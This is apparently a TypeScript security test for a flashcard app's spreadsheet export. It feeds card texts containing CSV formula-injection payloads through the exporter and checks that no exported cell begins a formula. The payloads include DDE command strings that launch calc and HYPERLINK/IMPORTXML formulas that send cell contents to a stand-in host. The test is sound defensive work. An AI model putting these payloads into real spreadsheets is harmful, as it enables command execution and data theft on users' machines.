import { writeDeckTable } from '../../decks/formats/write-deck-table.ts'
import type { DeckFile } from '../../decks/model/deck.ts'
import { openCollection } from '../../decks/open-collection.ts'
import { hashBytes } from '../../decks/pack/hash-bytes.ts'
import { aDeckFile } from '../builders/a-deck-file.ts'
import { someMemoryOptions } from '../builders/some-memory-options.ts'
import { anAttack, type Attempt } from './attack.ts'
import { startChance } from './chance.ts'

const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const befores = ['', ' ', '\t', '\n', '\u00A0', '\uFEFF', '\u2003', "'", "''", ' \t ', '"', ',', ';']
const formulas = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example/?"&A1,"x")', 'SUM(A1:A9)*cmd', '5 people', 'IMPORTXML(CONCAT("http://a.example/",A1),"//a")', 'DDE("cmd";"/C calc";"x")', '']
const some = 50

/** A cell as a spreadsheet would see it: rows and cells by the rules of RFC 4180, written without any of the app's code. */
function parseTable(text: string): string[][] {
  const rows: string[][] = [[]]
  let [cell, quoted] = ['', false]
  const finish = (): void => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? ''
    if (quoted && sign === '"' && text[at + 1] === '"') {
      cell += sign
      at += 1
    } else if (sign === '"' && (quoted || cell === '')) quoted = !quoted
    else if (!quoted && sign === ',') finish()
    else if (!quoted && sign === '\n') {
      finish()
      rows.push([])
    } else if (quoted || sign !== '\r') cell += sign
  }
  return rows.slice(0, -1)
}

/** What spreadsheets run: these signs at the start, also full width, also after blanks that they leave out. */
const runs = (cell: string): boolean => /^[\s\u00A0\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\n]/.test(cell)

async function readBack(bytes: Uint8Array): Promise<readonly { question: string; answer: string; tags: readonly string[] }[]> {
  const opened = await openCollection({ name: 'a.csv', bytes }, { options: someMemoryOptions(), now: 0, hash: hashBytes })
  return opened.ok ? opened.value.decks.flatMap(({ file }) => file.notes.flatMap(({ cards, tags }) => cards.map(({ question, answer }) => ({ question, answer, tags })))) : []
}

function makeDeck(trial: number): DeckFile {
  const chance = startChance(trial + 1)
  const text = (): string => `${chance.pick(befores)}${chance.pick(signs)}${chance.pick(formulas)}${chance.below(4) === 0 ? '"\n=1+1' : ''}`
  const deck = aDeckFile(...Array.from({ length: some }, (_, at) => ({ id: `c${at}`, question: `${text()}${at}`, answer: text(), remark: chance.below(2) === 0 ? null : text(), accepts: [text()] })))
  return { ...deck, deck: { ...deck.deck, title: `${text()}x`.trim() }, notes: deck.notes.map((note) => ({ ...note, tags: [`${text()}x`.slice(0, 90)] })) }
}

async function attempt(_: null, trial: number): Promise<Attempt> {
  const deck = makeDeck(trial)
  const losses: string[] = []
  const spreadsheet = new TextDecoder('utf-8', { ignoreBOM: false }).decode(writeDeckTable([deck, { ...deck, deck: { ...deck.deck, id: 'other' as typeof deck.deck.id }, notes: [] }], { mode: 'spreadsheet', delimiter: ',' }))
  for (const row of parseTable(spreadsheet)) for (const cell of row) if (runs(cell)) losses.push(`trial ${trial}: the cell ${JSON.stringify(cell).slice(0, 100)} starts a formula`)
  const wanted = deck.notes.map(({ cards: [card], tags }) => [card?.question.trim(), card?.answer.trim(), tags.map((tag) => tag.trim())])
  for (const mode of ['spreadsheet', 'lossless'] as const) {
    const back = await readBack(writeDeckTable([deck], { mode, delimiter: ',' }))
    const found = back.map(({ question, answer, tags }) => [question.trim(), answer.trim(), tags.map((tag) => tag.trim())])
    wanted.forEach((row, at) => {
      if (JSON.stringify(row) !== JSON.stringify(found[at])) losses.push(`trial ${trial}, ${mode}: ${JSON.stringify(row)} came back as ${JSON.stringify(found[at])}`)
    })
  }
  return { did: deck.notes.length, losses }
}

/** Cards whose texts are formulas, written for spreadsheets and without loss, and read again. */
export const formulaCells = anAttack({
  name: 'formulas',
  what: 'Cards that are formulas: no cell of a table for spreadsheets starts one, and both tables are read back as they were.',
  trials: { quick: 20, full: 400 },
  open: async () => null,
  attempt,
  close: async () => undefined,
})
